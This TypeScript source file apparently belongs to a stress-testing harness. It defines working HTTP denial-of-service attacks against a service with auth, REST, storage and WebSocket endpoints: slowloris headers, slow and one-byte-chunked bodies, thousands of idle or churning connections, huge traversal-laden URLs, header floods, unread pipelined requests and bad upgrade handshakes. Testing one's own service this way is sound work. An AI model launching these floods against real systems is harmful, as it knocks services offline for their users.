/** Connections, and requests that are long or never end. */
import type { Attack } from '../../attacker/attack.ts';
import { holdConnections, openConnection, rawHead, waitForEnd } from '../../attacker/connections.ts';
import { flood } from '../../attacker/http.ts';

/** Sends headers slowly and never finishes them. */
export const slowHeaders: Attack = {
  name: 'http/slow-headers',
  description: '2,000 connections that send a header every second and never finish (slowloris)',
  cost: 'a connection and up to 128 KB of headers each',
  run: (context) =>
    holdConnections(context, {
      connections: 2000,
      first: () => rawHead('GET', '/'),
      drip: { bytes: (turn) => `x-slow-${turn}: ${'x'.repeat(100)}\r\n`, everyMs: 1000 },
    }),
};

/** Sends bodies slowly and never finishes them. */
export const slowBodies: Attack = {
  name: 'http/slow-bodies',
  description: '1,000 connections that send a byte of a body every second, to every service in turn',
  cost: 'a connection and a request each, for minutes',
  run: (context) => {
    const paths = ['/auth/v1/signup', '/rest/v1/rpc/abuse_sum', '/storage/v1/object/abuse/slow', '/login'];
    const headers = {
      apikey: context.anonKey,
      'content-type': 'application/json',
      'content-length': '1000000',
    };
    return holdConnections(context, {
      connections: 1000,
      first: (index) => `${rawHead('POST', paths[index % paths.length] ?? '', headers)}\r\n`,
      drip: { bytes: () => ' ', everyMs: 1000 },
    });
  },
};

/** Opens connections and sends no request. */
export const idleConnections: Attack = {
  name: 'http/idle-connections',
  description: '5,000 connections that send nothing',
  cost: 'a file descriptor and memory each',
  run: (context) => holdConnections(context, { connections: 5000 }),
};

/** Opens and closes connections continuously. */
export const connectionChurn: Attack = {
  name: 'http/connection-churn',
  description: 'connections that are reset as soon as they are open, 100 at once',
  cost: 'event loop: accepting and closing',
  run: async (context) => {
    const loop = async () => {
      for (let count = 0; count < 5000 && !context.signal.aborted; count += 1) {
        (await openConnection(context))?.resetAndDestroy();
        context.tally.count('connected');
      }
    };
    await Promise.all(Array.from({ length: 100 }, loop));
  },
};

/** Sends requests with long URLs and headers. */
export const longUrls: Attack = {
  name: 'http/long-urls',
  description: 'URLs of 64 KB, with escapes, to pages and services, 50 at once',
  cost: 'event loop: decoding and routing',
  run: (context) => {
    const long = '%61%2f..%2f'.repeat(5900);
    const paths = [
      '/login?x=',
      '/',
      '/rest/v1/',
      '/storage/v1/object/public/pictures/',
      '/auth/v1/verify?type=signup&token=',
    ];
    return flood(context, {
      sockets: 50,
      request: (index) => ({ path: (paths[index % paths.length] ?? '') + long }),
    });
  },
};

/** Sends requests with many headers. */
export const manyHeaders: Attack = {
  name: 'http/many-headers',
  description: '1,900 headers in 100 KB per request, 50 at once',
  cost: 'event loop: parsing headers',
  run: (context) => {
    const headers = Object.fromEntries(
      Array.from({ length: 1900 }, (_, index) => [`x-header-${index}`, 'x'.repeat(30)]),
    );
    return flood(context, { sockets: 50, request: () => ({ path: '/health', headers }) });
  },
};

/** Sends bodies in chunks of one byte. */
export const tinyChunks: Attack = {
  name: 'http/tiny-chunks',
  description: '20 connections that send bodies of 1 MB in chunks of one byte',
  cost: 'event loop: an event per byte',
  run: (context) => {
    const headers = {
      apikey: context.anonKey,
      'content-type': 'application/json',
      'transfer-encoding': 'chunked',
    };
    const head = `${rawHead('POST', '/auth/v1/signup', headers)}\r\n`;
    return holdConnections(context, {
      connections: 20,
      first: () => head,
      drip: { bytes: () => '1\r\n \r\n'.repeat(10_000), everyMs: 100 },
    });
  },
};

/** Pipelines requests on each connection. */
export const pipelining: Attack = {
  name: 'http/pipelining',
  description: '20 connections with 5,000 pipelined GET /login each that read nothing',
  cost: 'event loop and memory: pages that wait for their reader',
  run: async (context) => {
    const request = `${rawHead('GET', '/login')}\r\n`;
    await holdConnections(context, { connections: 20, reads: false, first: () => request.repeat(5000) });
    await waitForEnd(context);
  },
};

/** Requests WebSocket upgrades that fail. */
export const upgradeFlood: Attack = {
  name: 'http/upgrades',
  description: 'WebSocket handshakes with wrong keys, without keys and to pages, 50 at once',
  cost: 'event loop: routing and refusing; a token check',
  run: (context) => {
    const paths = ['/realtime/v1/websocket?apikey=wrong', '/realtime/v1/websocket', '/', '/rest/v1/'];
    const headers = {
      connection: 'Upgrade',
      upgrade: 'websocket',
      'sec-websocket-version': '13',
      'sec-websocket-key': Buffer.alloc(16, 'k').toString('base64'),
    };
    return flood(context, {
      sockets: 50,
      request: (index) => ({ path: paths[index % paths.length] ?? '', headers }),
    });
  },
};
